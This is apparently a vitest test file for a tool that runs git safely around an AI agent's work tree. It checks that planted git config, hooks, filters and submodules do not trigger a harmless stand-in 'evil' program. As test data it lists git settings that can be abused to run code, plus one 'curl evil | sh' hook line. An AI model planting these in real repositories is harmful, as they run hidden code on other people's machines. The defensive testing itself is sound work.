import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, statSync, unlinkSync, utimesSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { changedExecutables, executableFingerprint } from '../../../src/git/harden.ts';
import { snapshotTree } from '../../../src/git/snapshot.ts';
import { treeState } from '../../../src/git/tree.ts';
import { systemClock } from '../../../src/util/clock.ts';
import { type Scratch, scratchRepo } from '../../support/repo.ts';

/** Everything that git can be made to run from inside a work tree, all of it proving by a file that it ran. */
function plant(scratch: Scratch, where = scratch.workDir, filter = 'evil'): void {
  const { evil } = scratch;
  const set = (key: string, value: string) => scratch.gitIn(where, 'config', key, value);
  set('core.fsmonitor', `${evil} fsmonitor`);
  set('core.sshCommand', `${evil} ssh`);
  set('core.pager', `${evil} pager`);
  set('core.editor', `${evil} editor`);
  set('diff.external', `${evil} diff.external`);
  set('diff.evil.command', `${evil} diff.command`);
  set('diff.evil.textconv', `${evil} textconv`);
  set('merge.evil.driver', `${evil} merge`);
  set('gpg.program', `${evil} gpg`);
  set('commit.gpgSign', 'true');
  set('log.showSignature', 'true');
  for (const part of ['clean', 'smudge']) set(`filter.${filter}.${part}`, `${evil} ${filter} ${part}`);
  set(`filter.${filter}.required`, 'true');
  set('remote.origin.url', '/nowhere');
  set('remote.origin.promisor', 'true');
  set('remote.origin.uploadpack', `${evil} uploadpack`);
  const hooks = join(scratch.folder, 'planted-hooks');
  mkdirSync(hooks, { recursive: true });
  for (const name of [
    'pre-commit',
    'post-commit',
    'prepare-commit-msg',
    'commit-msg',
    'post-index-change',
    'reference-transaction',
    'pre-auto-gc',
    'post-checkout',
  ]) {
    writeFileSync(join(hooks, name), `#!/bin/sh\n${evil} hook ${name} </dev/null\n`, { mode: 0o755 });
  }
  set('core.hooksPath', hooks);
  mkdirSync(join(scratch.gitIn(where, 'rev-parse', '--absolute-git-dir'), 'info'), { recursive: true });
  writeFileSync(join(where, '.gitattributes'), `*.txt filter=${filter} diff=evil merge=evil\n`);
}

describe('what an agent planted in the repository does not run on', () => {
  let scratch: Scratch;
  beforeEach(() => {
    scratch = scratchRepo();
    plant(scratch);
    utimesSync(join(scratch.workDir, 'tracked.txt'), 1, 2);
    scratch.write('new.md', 'new\n');
  });
  afterEach(() => {
    expect(scratch.evilRan()).toBe('');
    scratch.close();
  });

  it('status', async () => {
    expect(await treeState(scratch.repo)).toMatchObject({ problem: null, dirty: ['.gitattributes', 'new.md'] });
  });

  it('stash', async () => {
    expect(await scratch.resolve('stash')).toMatchObject({ kind: 'stashed' });
  });

  it('stash with log_dir inside work_dir, where git diffs and applies', async () => {
    scratch.write('logs/x.md', 'x');
    scratch.write('tracked.md', 'x');
    const repo = scratch.open({ logDir: join(scratch.workDir, 'logs') });
    expect(await scratch.resolve('stash', {}, repo)).toMatchObject({ kind: 'stashed' });
  });

  it('auto_commit with a changed fingerprint', async () => {
    expect(await scratch.resolve('auto_commit', { hooksTrusted: false })).toMatchObject({ kind: 'committed' });
  });

  it('snapshot', async () => {
    expect(await snapshotTree(scratch.repo, 'x')).toMatchObject({ ref: 'refs/agent-runner/x' });
  });

  it('a filter whose name could not be given on a command line, and one that comes by an include', async () => {
    plant(scratch, scratch.workDir, 'a=b.c "d"');
    scratch.write('../more.inc', `[filter "later"]\n\tclean = ${scratch.evil} later\n`);
    scratch.git('config', 'include.path', join(scratch.folder, 'more.inc'));
    scratch.write('.gitattributes', '*.txt filter=a=b.c\nnew.md filter=later\n');
    scratch.write('tracked.txt', 'second\n');
    await treeState(scratch.repo);
    scratch.write('../more.inc', `[filter "later"]\n\tprocess = ${scratch.evil} later\n`);
    await treeState(scratch.repo);
    await scratch.resolve('auto_commit');
    await snapshotTree(scratch.repo, 'x');
  });

  it('the configuration of a single work tree', async () => {
    scratch.git('config', 'extensions.worktreeConfig', 'true');
    scratch.git('config', '--worktree', 'filter.own.clean', `${scratch.evil} own`);
    scratch.write('.gitattributes', '*.txt filter=own\n');
    scratch.write('tracked.txt', 'second\n');
    await treeState(scratch.repo);
    await scratch.resolve('auto_commit');
  });
});

describe('the planted programs', () => {
  it('do run in git as a person calls it, so the tests above prove something', () => {
    const scratch = scratchRepo();
    try {
      plant(scratch);
      utimesSync(join(scratch.workDir, 'tracked.txt'), 1, 2);
      scratch.git('status');
      scratch.write('tracked.txt', 'second');
      scratch.git('-c', 'commit.gpgSign=false', 'commit', '-q', '-a', '-m', 'x');
      for (const name of ['fsmonitor', 'evil clean', 'hook pre-commit', 'hook post-index-change', 'hook reference-transaction']) {
        expect(scratch.evilRan()).toContain(name);
      }
    } finally {
      scratch.close();
    }
  });
});

describe('a partial clone', () => {
  it('whose remote names a program for fetching fails instead of running it', async () => {
    const scratch = scratchRepo();
    try {
      const blob = scratch.git('rev-parse', 'HEAD:tracked.txt');
      scratch.git('clone', '-q', '--bare', scratch.workDir, join(scratch.folder, 'remote.git'));
      for (const [key, value] of [
        ['core.repositoryFormatVersion', '1'],
        ['extensions.partialClone', 'origin'],
        ['remote.origin.url', join(scratch.folder, 'remote.git')],
        ['remote.origin.promisor', 'true'],
        ['remote.origin.uploadpack', scratch.write('../packer', `#!/bin/sh\n'${scratch.evil}' uploadpack </dev/null\n`, 0o755)],
        ['protocol.file.allow', 'always'],
      ] as const) {
        scratch.git('config', key, value);
      }
      scratch.write('tracked.txt', 'second\n');
      unlinkSync(join(scratch.workDir, '.git/objects', blob.slice(0, 2), blob.slice(2)));
      await scratch.resolve('stash');
      await scratch.resolve('auto_commit', { roundNum: 2 });
      await snapshotTree(scratch.repo, 'x').catch(() => {});
      expect(scratch.evilRan()).toBe('');
      expect(() => scratch.git('cat-file', '-e', blob)).toThrow();
      expect(scratch.evilRan()).toContain('uploadpack');
    } finally {
      scratch.close();
    }
  });
});

describe('what an agent planted in a submodule', () => {
  it('does not run on status, stash, auto_commit and snapshot of the repository around it', async () => {
    const scratch = scratchRepo();
    try {
      const sub = join(scratch.workDir, 'sub');
      mkdirSync(sub);
      scratch.gitIn(sub, 'init', '-q');
      scratch.write('sub/a.txt', 'a\n');
      scratch.gitIn(sub, 'add', '-A');
      scratch.gitIn(sub, 'commit', '-q', '-m', 'a');
      scratch.git('-c', 'advice.addEmbeddedRepo=false', 'add', 'sub');
      scratch.git('commit', '-q', '-m', 'gitlink');
      plant(scratch, sub, 'inside');
      scratch.write('sub/a.txt', 'b\n');
      utimesSync(join(sub, 'a.txt'), 1, 2);
      scratch.write('new.md', 'new\n');
      expect((await treeState(scratch.repo)).dirty).toEqual(['new.md', 'sub']);
      expect(await snapshotTree(scratch.repo, 'x')).not.toBeNull();
      expect(await scratch.resolve('stash')).toMatchObject({ kind: 'stashed', files: ['new.md'] });
      scratch.write('new.md', 'new\n');
      expect(await scratch.resolve('auto_commit', { roundNum: 2 })).toMatchObject({ kind: 'committed', files: ['new.md'] });
      expect(scratch.evilRan()).toBe('');
      scratch.git('status');
      expect(scratch.evilRan()).toContain('inside clean');
    } finally {
      scratch.close();
    }
  });
});

describe('filters', () => {
  let scratch: Scratch;
  beforeEach(() => {
    scratch = scratchRepo();
    scratch.write('.gitattributes', '*.secret filter=crypt\n');
  });
  afterEach(() => scratch.close());
  const define = (scope: '--global' | '--local') => {
    scratch.git('config', scope, 'filter.crypt.clean', 'tr a-z A-Z');
    scratch.git('config', scope, 'filter.crypt.smudge', 'tr A-Z a-z');
    scratch.git('config', scope, 'filter.crypt.required', 'true');
    scratch.write('x.secret', 'plain\n');
    scratch.git('add', '-A');
    scratch.git('commit', '-q', '-m', 'crypt');
    expect(scratch.git('show', 'HEAD:x.secret')).toBe('PLAIN');
    utimesSync(join(scratch.workDir, 'x.secret'), 1, 2);
  };

  it("the user's own (as LFS has it) stay on: no file looks dirty, commits are filtered, also when the repository repeats them", async () => {
    define('--global');
    expect(await treeState(scratch.repo)).toMatchObject({ dirty: [], problem: null });
    scratch.git('config', '--local', 'filter.crypt.clean', `${scratch.evil} clean`);
    expect(await treeState(scratch.repo)).toMatchObject({ dirty: [], problem: null });
    scratch.write('x.secret', 'other\n');
    expect(await scratch.resolve('auto_commit')).toMatchObject({ kind: 'committed' });
    expect(scratch.git('show', 'HEAD:x.secret')).toBe('OTHER');
    scratch.write('x.secret', 'third\n');
    expect(await scratch.resolve('stash')).toMatchObject({ kind: 'stashed' });
    expect(scratch.read('x.secret')).toBe('other\n');
    expect(scratch.evilRan()).toBe('');
  });

  it('one that only the repository defines: its files are left where they are and told, never saved unfiltered', async () => {
    define('--local');
    scratch.write('x.secret', 'other\n');
    scratch.write('new.md', 'new\n');
    expect(await scratch.resolve('stash')).toMatchObject({ kind: 'stashed', files: ['new.md'] });
    expect(scratch.events).toMatchObject([
      { kind: 'dirty_unstashable', fields: { paths: ['x.secret'], reason: 'repository_filter' } },
      { kind: 'orphan_stashed' },
    ]);
    expect(scratch.read('x.secret')).toBe('other\n');
    scratch.write('new.md', 'new\n');
    expect(await scratch.resolve('auto_commit', { roundNum: 2 })).toMatchObject({ kind: 'committed', files: ['new.md'] });
    expect(scratch.git('show', 'HEAD:x.secret')).toBe('PLAIN');
    expect(await scratch.resolve('auto_commit', { roundNum: 3, hooksTrusted: true })).toMatchObject({ kind: 'committed' });
    expect(scratch.git('show', 'HEAD:x.secret')).toBe('OTHER');
  });
});

describe('core.worktree', () => {
  it('of the repository cannot send our git to another directory', async () => {
    const scratch = scratchRepo();
    try {
      mkdirSync(join(scratch.folder, 'elsewhere'));
      writeFileSync(join(scratch.folder, 'elsewhere/precious.txt'), 'precious');
      scratch.git('config', 'core.worktree', join(scratch.folder, 'elsewhere'));
      scratch.write('new.txt', 'new');
      expect((await treeState(scratch.repo)).dirty).toEqual(['new.txt']);
      expect(await scratch.resolve('stash')).toMatchObject({ kind: 'stashed', files: ['new.txt'] });
      expect(existsSync(join(scratch.folder, 'elsewhere/precious.txt'))).toBe(true);
    } finally {
      scratch.close();
    }
  });
});

describe('inherited variables', () => {
  it('GIT_DIR, GIT_INDEX_FILE and the like do not reach git; identity and global configuration do', async () => {
    const scratch = scratchRepo();
    try {
      const env = {
        ...scratch.env,
        GIT_DIR: '/nowhere',
        GIT_WORK_TREE: '/nowhere',
        GIT_INDEX_FILE: join(scratch.folder, 'index'),
        GIT_EXTERNAL_DIFF: scratch.evil,
        GIT_AUTHOR_NAME: 'Somebody',
        GIT_CONFIG_COUNT: '1',
        GIT_CONFIG_KEY_0: 'user.email',
        GIT_CONFIG_VALUE_0: 'from-environment@example.org',
      };
      scratch.git('config', 'filter.x.clean', scratch.evil);
      scratch.write('new.txt', 'new');
      expect(await scratch.resolve('auto_commit', {}, scratch.open({ env }))).toMatchObject({ kind: 'committed' });
      expect(scratch.git('log', '-1', '--format=%an %ae %ce')).toBe('Somebody from-environment@example.org from-environment@example.org');
    } finally {
      scratch.close();
    }
  });
});

describe('executableFingerprint', () => {
  let scratch: Scratch;
  beforeEach(() => {
    scratch = scratchRepo();
  });
  afterEach(() => scratch.close());
  const fingerprint = () => executableFingerprint(scratch.repo);
  /** What differs after the change. */
  const changedBy = async (change: () => void) => {
    const before = await fingerprint();
    change();
    return changedExecutables(before, await fingerprint());
  };

  it('stays the same while branches, remotes, users and commits change', async () => {
    expect(
      await changedBy(() => {
        scratch.git('checkout', '-q', '-b', 'side');
        scratch.git('config', 'branch.side.remote', 'origin');
        scratch.git('remote', 'add', 'origin', '/elsewhere');
        scratch.git('config', 'user.name', 'Other');
        scratch.git('commit', '-q', '--allow-empty', '-m', 'x');
      }),
    ).toEqual([]);
  });

  it('names the configuration, the hook, the attributes that changed', async () => {
    expect(await changedBy(() => scratch.git('config', 'filter.x.clean', 'evil'))).toEqual(['.git/config']);
    expect(await changedBy(() => scratch.git('config', 'core.fsmonitor', 'evil'))).toEqual(['.git/config']);
    expect(await changedBy(() => scratch.write('.git/hooks/pre-commit', '#!/bin/sh\n', 0o755))).toEqual(['.git/hooks/pre-commit']);
    expect(await changedBy(() => scratch.write('.git/hooks/pre-commit', '#!/bin/sh\n:'))).toEqual(['.git/hooks/pre-commit']);
    expect(await changedBy(() => scratch.write('.git/hooks/x.sample', 'never run'))).toEqual([]);
    expect(await changedBy(() => scratch.write('.git/info/attributes', '* filter=x\n'))).toEqual(['.git/info/attributes']);
  });

  it('sees a change that keeps size and mtime', async () => {
    scratch.git('config', 'filter.x.clean', 'aaaa');
    const file = join(scratch.workDir, '.git/config');
    const { atime, mtime } = statSync(file);
    expect(
      await changedBy(() => {
        writeFileSync(file, scratch.read('.git/config').replace('aaaa', 'bbbb'));
        utimesSync(file, atime, mtime);
      }),
    ).toEqual(['.git/config']);
  });

  it('follows core.hooksPath into the tree, husky included', async () => {
    scratch.write('.husky/pre-commit', 'npm test\n');
    scratch.write('.husky/_/pre-commit', '#!/bin/sh\n. ../pre-commit\n', 0o755);
    expect(await changedBy(() => scratch.git('config', 'core.hooksPath', '.husky/_'))).toEqual([
      '.git/config',
      '.husky/_/pre-commit',
      '.husky/pre-commit',
    ]);
    expect(await changedBy(() => scratch.write('.husky/pre-commit', 'curl evil | sh\n'))).toEqual(['.husky/pre-commit']);
  });

  it('follows include.path to a file that comes later', async () => {
    scratch.git('config', 'include.path', '../more.inc');
    expect(await changedBy(() => scratch.write('more.inc', '[core]\n\tsshCommand = evil\n'))).toEqual(['more.inc']);
  });

  it('covers submodules, and is not caught by a pipe in the place of a hook', async () => {
    const sub = join(scratch.workDir, 'sub');
    mkdirSync(sub);
    scratch.gitIn(sub, 'init', '-q');
    scratch.gitIn(sub, 'commit', '-q', '--allow-empty', '-m', 'a');
    scratch.git('-c', 'advice.addEmbeddedRepo=false', 'add', 'sub');
    scratch.git('commit', '-q', '-m', 'gitlink');
    expect(await changedBy(() => scratch.gitIn(sub, 'config', 'core.fsmonitor', 'evil'))).toEqual(['sub/.git/config']);
    mkdirSync(join(scratch.workDir, '.git/hooks'), { recursive: true });
    execFileSync('mkfifo', [join(scratch.workDir, '.git/hooks/commit-msg')]);
    const start = systemClock.monotonic();
    await fingerprint();
    expect(systemClock.monotonic() - start).toBeLessThan(2_000);
  });

  it('is shared by the linked work trees', async () => {
    const side = join(scratch.folder, 'side');
    scratch.git('worktree', 'add', '-q', side);
    const repo = scratch.open({}, side);
    const before = await executableFingerprint(repo);
    scratch.write('.git/hooks/pre-commit', '#!/bin/sh\n', 0o755);
    expect(changedExecutables(before, await executableFingerprint(repo))).toEqual(['../work/.git/hooks/pre-commit']);
  });
});
